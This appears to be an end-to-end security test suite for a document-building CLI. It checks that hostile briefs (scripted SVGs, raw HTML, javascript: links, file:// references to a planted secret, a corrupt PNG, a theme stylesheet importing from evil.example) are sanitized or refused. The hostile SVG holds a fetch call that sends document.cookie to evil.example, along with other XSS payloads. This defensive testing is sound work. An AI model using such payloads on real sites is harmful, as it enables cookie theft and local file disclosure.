/**
 * Hostile content, end to end through the real CLI: a secret file is planted outside the manuscript,
 * and briefs try to reach it or run script through an SVG image, raw HTML, a damaged image and a
 * theme stylesheet. Asserted: the exit code and every positioned message; the secret appears in no
 * output file (EPUB entries and PDF text included); no output holds a script or an event handler;
 * the EPUBs written pass epubcheck; a real Chromium shows the web edition and runs nothing; the
 * preview serves built files under a policy that stops an SVG's script.
 */
import { cpSync, existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import http from 'node:http';
import os from 'node:os';
import path from 'node:path';
import { pathToFileURL } from 'node:url';
import { deflateSync, crc32 } from 'node:zlib';
import JSZip from 'jszip';
import type { Page } from 'puppeteer-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { preview, type PreviewServer } from '../src/api.js';
import { launchPool, type BrowserPool } from '../src/browser/pool.js';
import { repoRoot, runCli, type CliResult } from './helpers/cli.js';
import { pdftext } from './helpers/pdf.js';
import { runEpubcheck, type EpubcheckResult } from './helpers/validators.js';

const marker = `SECRET-${process.pid}-${Date.now().toString(36)}`;
let tmp: string;
let secret: string;
let ms: string;
let out: string;
let built: CliResult;
let pool: BrowserPool;
const checks = new Map<string, EpubcheckResult>();

/** An SVG that tries everything: script, handlers, embedded HTML, the secret by path and by file: URL. */
function hostileSvg(): string {
  return `<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="200" height="100" viewBox="0 0 200 100" onload="document.documentElement.setAttribute('data-pwned','onload')">
  <title>A hostile chart</title>
  <script>document.documentElement.setAttribute('data-pwned', 'script'); fetch('https://evil.example/steal?' + document.cookie);</script>
  <foreignObject width="200" height="100"><div xmlns="http://www.w3.org/1999/xhtml"><iframe src="file://${secret}"></iframe><script>parent.document.title = 'pwned'</script></div></foreignObject>
  <image xlink:href="file://${secret}" width="10" height="10"/>
  <image href="../../../outside/secret.txt" width="10" height="10"/>
  <image href="https://evil.example/pixel.png" width="10" height="10"/>
  <rect width="200" height="100" fill="#0065a6" onclick="alert(1)" style="fill: url(https://evil.example/f)"/>
  <a xlink:href="javascript:alert(1)"><text x="10" y="50">Click</text></a>
</svg>
`;
}

/** What a drawing program writes: editor namespaces, RDF metadata, a public DOCTYPE. Harmless, and must stay valid for epubcheck. */
const editorSvg = `<?xml version="1.0" encoding="UTF-8" standalone="no"?>
<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">
<!-- Created with a drawing program -->
<svg xmlns="http://www.w3.org/2000/svg" xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:cc="http://creativecommons.org/ns#" xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd" xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape" width="120" height="60" viewBox="0 0 120 60" version="1.1" inkscape:version="1.2" sodipodi:docname="map.svg">
  <sodipodi:namedview id="base" pagecolor="#ffffff" inkscape:zoom="1"/>
  <metadata id="metadata1"><rdf:RDF><cc:Work rdf:about=""><dc:format>image/svg+xml</dc:format><dc:type rdf:resource="http://purl.org/dc/dcmitype/StillImage"/></cc:Work></rdf:RDF></metadata>
  <defs><linearGradient id="grad"><stop offset="0" stop-color="#0065a6"/><stop offset="1" stop-color="#00487a"/></linearGradient></defs>
  <g inkscape:label="Layer 1" inkscape:groupmode="layer" id="layer1"><rect width="120" height="60" style="fill:url(#grad);stroke:none"/></g>
</svg>
`;

function png(corrupt: boolean): Buffer {
  const chunk = (type: string, data: Buffer) => {
    const len = Buffer.alloc(4);
    len.writeUInt32BE(data.length);
    const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
    const crc = Buffer.alloc(4);
    crc.writeUInt32BE(crc32(body) >>> 0);
    return Buffer.concat([len, body, crc]);
  };
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(8, 0);
  ihdr.writeUInt32BE(8, 4);
  ihdr[8] = 8;
  ihdr[9] = 2;
  const file = Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), chunk('IHDR', ihdr), chunk('IDAT', deflateSync(Buffer.alloc(8 * 25, 0x33))), chunk('IEND', Buffer.alloc(0))]);
  if (corrupt) file[50] = file[50]! ^ 0xff; // inside the image data: the signature and the layout stay valid
  return file;
}

const front = (title: string) => `---\ntitle: ${title}\nauthors: [ann-author]\ndate: 2024-03-04\nsummary: A brief that tries to get out.\nkeywords: [Security]\n---\n\n`;

function writeBrief(slug: string, body: string, files: Record<string, string | Buffer> = {}): void {
  const dir = path.join(ms, 'briefs', slug);
  mkdirSync(dir, { recursive: true });
  writeFileSync(path.join(dir, 'brief.md'), front(slug.replace(/-/g, ' ')) + body);
  for (const [name, data] of Object.entries(files)) writeFileSync(path.join(dir, name), data);
}

/** Every file under `dir`, with the entries of EPUBs as `<file>!<entry>` and PDFs' text. */
async function outputs(dir: string): Promise<{ name: string; text: string }[]> {
  const found: { name: string; text: string }[] = [];
  for (const rel of readdirSync(dir, { recursive: true }).map(String)) {
    const file = path.join(dir, rel);
    if (!existsSync(file) || !readdirSync(path.dirname(file)).includes(path.basename(file))) continue;
    let bytes: Buffer;
    try {
      bytes = readFileSync(file);
    } catch {
      continue; // a folder
    }
    found.push({ name: rel, text: bytes.toString('latin1') });
    if (rel.endsWith('.epub')) {
      const zip = await JSZip.loadAsync(bytes);
      for (const [entry, f] of Object.entries(zip.files)) if (!f.dir) found.push({ name: `${rel}!${entry}`, text: Buffer.from(await f.async('uint8array')).toString('latin1') });
    }
    if (rel.endsWith('.pdf')) found.push({ name: `${rel} (text)`, text: pdftext(file) });
  }
  return found;
}

beforeAll(async () => {
  tmp = mkdtempSync(path.join(os.tmpdir(), 'bp-hostile-'));
  mkdirSync(path.join(tmp, 'outside'));
  secret = path.join(tmp, 'outside', 'secret.txt');
  writeFileSync(secret, `${marker}\n`);
  ms = path.join(tmp, 'manuscript');
  const base = path.join(repoRoot, 'tests/fixtures/epub');
  for (const part of ['authors', 'boilerplate']) cpSync(path.join(base, part), path.join(ms, part), { recursive: true });
  writeFileSync(path.join(ms, 'series.yaml'), readFileSync(path.join(base, 'series.yaml'), 'utf8').replace('rawHtml: false', 'rawHtml: true'));

  writeBrief('hostile-svg', '## Does the chart run script?\n\nIt must not: ![A chart of two regions](evil.svg)\n\nA drawing program\'s export stays valid: ![A blue gradient](editor.svg)\n', { 'evil.svg': hostileSvg(), 'editor.svg': editorSvg });
  writeBrief(
    'hostile-html',
    [
      '## Does raw HTML fetch or run anything?',
      '',
      'It must not.',
      '',
      '<picture><source srcset="https://evil.example/a.webp 1x, file://' + secret + ' 2x"><img src="chart.png" alt="A small chart"></picture>',
      '',
      '<div id="content">A second main content id</div>',
      '',
      '<pre><p>first line</p><p>second line</p></pre>',
      '',
      '<p><input type="checkbox" alt="done" checked> Done <input type="text" value="typed"></p>',
      '',
      '<style>body::after { content: "STYLE-TEXT-MARKER"; background: url(file://' + secret + ') }</style>',
      '',
      '<iframe src="file://' + secret + '"></iframe>',
      '',
      '<p onmouseover="alert(1)">Hover <a href="https://example.org/ok" target="_blank" onclick="steal()">a fine link</a></p>',
      '',
      '<object data="file://' + secret + '"></object><embed src="https://evil.example/e"><video poster="https://evil.example/p.png" src="https://evil.example/v.mp4"></video>',
      '',
    ].join('\n'),
    { 'chart.png': png(false) },
  );
  writeBrief('hostile-link', '## Do bad links pass?\n\n<a href="javascript:alert(document.cookie)">Run</a> and <img src="file://' + secret + '" alt="The secret">\n');
  writeBrief('corrupt-png', '## Does a damaged image pass?\n\nNo: ![A damaged chart](chart.png)\n', { 'chart.png': png(true) });

  out = path.join(tmp, 'out');
  built = runCli(['build', ms, '--out', out]);
  const epubs = ['hostile-svg', 'hostile-html'].map((s) => path.join(out, s, `${s}.epub`));
  if (epubs.every((f) => existsSync(f))) {
    const results = await Promise.all(epubs.map((f) => runEpubcheck(f)));
    results.forEach((r, i) => checks.set(epubs[i]!, r));
  }
  pool = await launchPool(1);
}, 300_000);

afterAll(async () => {
  await pool?.close();
  if (tmp) rmSync(tmp, { recursive: true, force: true });
});

const messageLines = () => built.stderr.split('\n').filter((l) => /  (error|warning)  /.test(l));
const linesFor = (slug: string) => messageLines().filter((l) => l.includes(`briefs/${slug}/brief.md:`));

describe('a series with hostile briefs (raw HTML allowed)', () => {
  it('exits 1, naming each problem at its line and column with its rule id, and no stack trace', () => {
    expect(built.code, built.stderr).toBe(1);
    expect(built.stderr).not.toMatch(/\n\s+at .+:\d+:\d+\)?\n/);
    for (const l of messageLines()) expect(l).toMatch(/^\S+brief\.md:\d+:\d+  (error|warning)  .+  [a-z-]+$/);
    expect(linesFor('hostile-svg')).toEqual([
      expect.stringMatching(/hostile-svg\/brief\.md:11:14  warning  SVG image `evil\.svg`: removed onload handler, <script>, <foreignObject>, xlink:href="file:\/\/\/.*secret\.txt", href="\.\.\/\.\.\/\.\.\/outside\/secret\.txt", href="https:\/\/evil\.example\/pixel\.png", onclick handler, style with url\(https:\/\/evil\.example\/f\), xlink:href="javascript:alert\(1\)"  image-unsafe$/),
      expect.stringMatching(/hostile-svg\/brief\.md:13:41  warning  SVG image `editor\.svg`: removed <sodipodi:namedview> \(not SVG\)  image-unsafe$/),
    ]);
    const html = linesFor('hostile-html').join('\n');
    for (const expected of [
      /:13:10  warning  Raw HTML `<source>` removed  raw-html-removed/,
      /:15:1  warning  Raw HTML id `content` is one that briefpress writes itself: removed  raw-html-id/,
      /:17:6  warning  Raw HTML `<p>` cannot stand inside `<pre>`: its content is kept without it  raw-html-structure/,
      /:19:4  warning  Raw HTML `<input>`: removed alt  raw-html-removed/,
      /:19:52  warning  Raw HTML `<input>` removed  raw-html-removed/,
      /:21:1  warning  Raw HTML `<style>` removed with its content  raw-html-removed/,
      /:23:1  warning  Raw HTML `<iframe>` removed  raw-html-removed/,
      /:25:1  warning  Raw HTML `<p>`: removed onmouseover  raw-html-removed/,
      /:25:33  warning  Raw HTML `<a>`: removed target, onclick  raw-html-removed/,
      /:27:1  warning  Raw HTML `<object>` removed  raw-html-removed/,
      /:27:\d+  warning  Raw HTML `<embed>` removed  raw-html-removed/,
      /:27:\d+  warning  Raw HTML `<video>` removed  raw-html-removed/,
    ]) {
      expect(html).toMatch(expected);
    }
    expect(linesFor('hostile-html').filter((l) => l.includes('  error  '))).toEqual([]);
    expect(linesFor('hostile-link')).toEqual([
      expect.stringMatching(/hostile-link\/brief\.md:11:1  error  Link to `javascript:alert\(document\.cookie\)` uses a scheme that is not allowed  link-scheme$/),
      expect.stringMatching(/hostile-link\/brief\.md:11:57  error  Image `file:\/\/\/.*secret\.txt` is not a file of the brief  image-outside$/),
    ]);
    expect(linesFor('corrupt-png')).toEqual([
      expect.stringMatching(/corrupt-png\/brief\.md:11:5  error  Image `chart\.png` is damaged: its IDAT chunk at byte 33 fails its checksum \(the data is damaged\)  image-corrupt$/),
    ]);
  });

  it('writes every edition of the briefs it could make safe, and nothing of those it refused', () => {
    for (const slug of ['hostile-svg', 'hostile-html']) {
      for (const f of ['index.html', `${slug}.epub`, `${slug}.pdf`]) expect(existsSync(path.join(out, slug, f)), `${slug}/${f}`).toBe(true);
    }
    for (const slug of ['hostile-link', 'corrupt-png']) expect(existsSync(path.join(out, slug))).toBe(false);
  });

  it('lets no byte of the secret into any output (EPUB entries and PDF text included)', async () => {
    const files = await outputs(out);
    expect(files.some((f) => f.name.endsWith('.epub!OEBPS/brief.xhtml'))).toBe(true);
    expect(files.some((f) => f.name.endsWith('.pdf (text)'))).toBe(true);
    for (const f of files) {
      expect(f.text.includes(marker), f.name).toBe(false);
      expect(f.text.includes(secret), f.name).toBe(false);
    }
  });

  it('writes no script, event handler, style text or remote reference in any output', async () => {
    expect(readFileSync(path.join(out, 'index.html'), 'utf8').match(/Content-Security-Policy/g)).toHaveLength(1);
    const markup = (await outputs(out)).filter((f) => /\.(html|xhtml|svg|css|opf|ncx|xml)$/.test(f.name));
    expect(markup.length).toBeGreaterThan(10);
    for (const f of markup) {
      expect(f.text, f.name).not.toMatch(/<script|<[^>]*\son[a-z]+\s*=|javascript:|<foreignObject|<iframe|<object|<embed|<video|<source|srcset|STYLE-TEXT-MARKER|evil\.example|file:\/\//i);
      expect(f.text, f.name).not.toMatch(/id="content"[^]*id="content"/);
    }
    const page = readFileSync(path.join(out, 'hostile-html', 'index.html'), 'utf8');
    expect(page).toContain('<pre>first line\nsecond line\n</pre>');
    expect(page).toContain('<a href="https://example.org/ok">a fine link</a>');
    expect(page).toMatch(/<meta http-equiv="Content-Security-Policy" content="[^"]*script-src (?:'|&#x27;)none/);
  });

  it('gives EPUBs that pass epubcheck with 0 errors and 0 warnings', () => {
    expect(checks.size).toBe(2);
    for (const [file, r] of checks) {
      expect(r.messages.filter((m) => m.severity !== 'USAGE' && m.severity !== 'INFO'), `${file}\n${r.output}`).toEqual([]);
      expect({ fatals: r.fatals, errors: r.errors, warnings: r.warnings, exitCode: r.exitCode }).toEqual({ fatals: 0, errors: 0, warnings: 0, exitCode: 0 });
    }
  });
});

/** Open `url` in a page with JavaScript on, recording every request; the page's own checks follow. */
async function visit<T>(url: string, inspect: (page: Page) => Promise<T>): Promise<{ result: T; requests: string[] }> {
  return pool.withPage(async (page) => {
    const requests: string[] = [];
    await page.setJavaScriptEnabled(true);
    await page.setRequestInterception(true);
    page.on('request', (req) => {
      requests.push(req.url());
      if (req.url().startsWith('file:') || req.url().startsWith('http://127.0.0.1')) void req.continue().catch(() => {});
      else void req.abort('blockedbyclient').catch(() => {});
    });
    try {
      await page.goto(url, { waitUntil: 'load' });
      await new Promise((r) => setTimeout(r, 300)); // let any script that slipped through act
      return { result: await inspect(page), requests };
    } finally {
      await page.setRequestInterception(false);
    }
  });
}

describe('the web edition in a real Chromium', () => {
  it('detects script in an SVG at all (control: the unsanitized file run as a page)', async () => {
    const raw = path.join(tmp, 'outside', 'raw.svg');
    writeFileSync(raw, hostileSvg());
    const { result, requests } = await visit(pathToFileURL(raw).href, (p) => p.evaluate(() => document.documentElement.getAttribute('data-pwned')));
    expect(result).not.toBeNull();
    expect(requests.some((u) => u.includes('evil.example'))).toBe(true);
  });

  it('runs no script and fetches nothing from elsewhere: the page, and its SVG opened on its own', async () => {
    const dir = path.join(out, 'hostile-svg');
    const { result, requests } = await visit(pathToFileURL(path.join(dir, 'index.html')).href, (p) =>
      p.evaluate(() => ({ title: document.title, img: document.querySelector('.brief-body img')?.getAttribute('src'), complete: (document.querySelector('.brief-body img') as HTMLImageElement | null)?.naturalWidth })),
    );
    expect(result.title).toBe('hostile svg');
    expect(result.complete).toBe(200); // the sanitized SVG still draws
    expect(requests.filter((u) => !u.startsWith('file:'))).toEqual([]);
    const svg = await visit(pathToFileURL(path.join(dir, result.img!)).href, (p) => p.evaluate(() => document.documentElement.getAttribute('data-pwned')));
    expect(svg.result).toBeNull();
    expect(svg.requests.filter((u) => !u.startsWith('file:'))).toEqual([]);
  });

  it("stops a script that got into the page anyway: the page's own Content-Security-Policy", async () => {
    const page = path.join(out, 'hostile-svg', 'index.html');
    const tampered = path.join(out, 'hostile-svg', 'tampered.html');
    const html = readFileSync(page, 'utf8').replace('</main>', `<script>document.title = 'pwned'</script><img src="x.png" alt="" onerror="document.title = 'pwned too'"></main>`);
    expect(html).toContain("<script>document.title = 'pwned'</script>");
    try {
      writeFileSync(tampered, html);
      expect((await visit(pathToFileURL(tampered).href, (p) => p.evaluate(() => document.title))).result).toBe('hostile svg');
      // Control: the same page without its policy runs the script.
      writeFileSync(tampered, html.replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, ''));
      expect((await visit(pathToFileURL(tampered).href, (p) => p.evaluate(() => document.title))).result).toMatch(/^pwned/);
    } finally {
      rmSync(tampered, { force: true });
    }
  });
});

function head(url: string): Promise<{ status: number; headers: http.IncomingHttpHeaders }> {
  return new Promise((resolve, reject) => {
    http.get(url, (res) => {
      res.resume();
      res.on('end', () => resolve({ status: res.statusCode ?? 0, headers: res.headers }));
    }).on('error', reject);
  });
}

describe('the preview', () => {
  let server: PreviewServer | undefined;
  afterAll(async () => server?.close());

  it("serves built files under the editions' policy: an SVG opened from it runs no script and cannot call its API", async () => {
    server = await preview({ input: path.join(ms, 'briefs', 'hostile-svg'), port: 0, jobs: 1 });
    await server.session.idle();
    // A file with script in the built folder, as if a sanitizer had missed it.
    writeFileSync(path.join(server.outDir, 'hostile-svg', 'planted.svg'), hostileSvg().replace('<script>', "<script>fetch('/api/state');</script><script>"));
    const svgUrl = `${server.url}out/hostile-svg/planted.svg`;
    const res = await head(svgUrl);
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toBe('image/svg+xml');
    expect(res.headers['x-content-type-options']).toBe('nosniff');
    expect(res.headers['content-security-policy']).toContain("script-src 'none'");
    expect((await head(`${server.url}out/hostile-svg/index.html`)).headers['content-security-policy']).toContain("script-src 'none'");
    const { result, requests } = await visit(svgUrl, (p) => p.evaluate(() => document.documentElement.getAttribute('data-pwned')));
    expect(result).toBeNull();
    expect(requests.filter((u) => u.includes('/api/') || u.includes('evil.example'))).toEqual([]);
  }, 120_000);
});

describe('a theme override whose stylesheet reaches outside the theme', () => {
  it('stops the build at the url, names file:line:column and the rule, and writes nothing', () => {
    const copy = path.join(tmp, 'themed');
    cpSync(ms, copy, { recursive: true });
    for (const slug of ['hostile-html', 'hostile-link', 'corrupt-png']) rmSync(path.join(copy, 'briefs', slug), { recursive: true });
    const theme = path.join(copy, 'theme', 'csis');
    mkdirSync(theme, { recursive: true });
    writeFileSync(
      path.join(theme, 'style.css'),
      `${readFileSync(path.join(repoRoot, 'templates/csis/style.css'), 'utf8')}\n.masthead { background: url("file://${secret}"); }\n@import url(http://evil.example/x.css);\n`,
    );
    const lines = readFileSync(path.join(theme, 'style.css'), 'utf8').split('\n').length;
    const outB = path.join(tmp, 'out-themed');
    const r = runCli(['build', copy, '--out', outB, '--format', 'html,epub']);
    expect(r.code).toBe(1);
    const msgs = r.stderr.split('\n').filter((l) => /  error  /.test(l));
    expect(msgs).toEqual([
      expect.stringMatching(new RegExp(`theme/csis/style\\.css:${lines - 2}:29  error  Stylesheet refers to \`file://.*secret\\.txt\` \\(file: URL\\): only files of the theme may be used  theme-css-url$`)),
      expect.stringMatching(new RegExp(`theme/csis/style\\.css:${lines - 1}:9  error  Stylesheet refers to \`http://evil\\.example/x\\.css\` \\(http: URL\\): only files of the theme may be used  theme-css-url$`)),
    ]);
    expect(existsSync(outB) ? readdirSync(outB, { recursive: true }) : []).toEqual([]);
  });
});
